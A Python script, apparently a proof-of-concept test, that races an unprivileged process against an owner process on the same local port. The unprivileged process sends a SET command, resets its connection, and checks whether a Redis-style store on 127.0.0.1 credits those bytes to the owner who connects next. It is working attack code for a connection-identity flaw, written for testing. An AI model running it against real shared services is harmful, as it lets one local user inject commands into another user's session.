"""A stranger who leaves bytes behind on a port that the store's owner gets next.

usage: port_thief.py PORT TRIES SECONDS, as root. Each try: a process of another user connects from a port of 127.0.0.1, sends SET and
resets its connection; the owner connects from the same port at once. Several pairs of them do so at a time. Prints the tries.
"""
import os
import random
import socket
import struct
import sys
import time

port, tries, seconds = (int(word) for word in sys.argv[1:4])
pairs = 10
reset = struct.pack("ii", 1, 0)
stolen = b"*3\r\n$3\r\nSET\r\n$6\r\nstolen\r\n$1\r\nv\r\n"


def connected(own_port):
    one = socket.socket()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
    one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    one.settimeout(10)
    one.bind(("127.0.0.1", own_port))
    one.connect(("127.0.0.1", port))
    return one


def thief(orders, answers):
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)
    while True:
        word = os.read(orders, 2)
        if len(word) < 2:
            os._exit(0)
        try:
            one = connected(struct.unpack("H", word)[0])
            one.send(stolen)
            # The store must have accepted it, and must not have looked whose it is.
            time.sleep(random.random() * 0.01)
            one.close()
        except OSError:
            pass
        os.write(answers, b".")


def free_ports(start):
    """Ports from `start` on that nobody else on this machine uses, 100 of them."""
    found = []
    for own_port in range(start, start + 300):
        with socket.socket() as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                one.bind(("127.0.0.1", own_port))
                found.append(own_port)
            except OSError:
                pass
    return found[:100]


def owner(number, orders, answers):
    ports = free_ports(20000 + 300 * number)
    end = time.monotonic() + seconds
    done = 0
    while done < tries // pairs and time.monotonic() < end:
        own_port = ports[done % 100]
        os.write(orders, struct.pack("H", own_port))
        os.read(answers, 1)
        try:
            mine = connected(own_port)
            mine.send(b"*1\r\n$4\r\nPING\r\n")
            mine.recv(64)
            mine.close()
        except OSError:
            pass
        done += 1
    return done


report, reports = os.pipe()
for number in range(pairs):
    if os.fork() == 0:
        to_thief, to_owner = os.pipe(), os.pipe()
        if os.fork() == 0:
            os.close(to_thief[1])
            thief(to_thief[0], to_owner[1])
        os.close(to_thief[0])
        os.write(reports, struct.pack("i", owner(number, to_thief[1], to_owner[0])))
        os._exit(0)
print(sum(struct.unpack("i", os.read(report, 4))[0] for _ in range(pairs)))
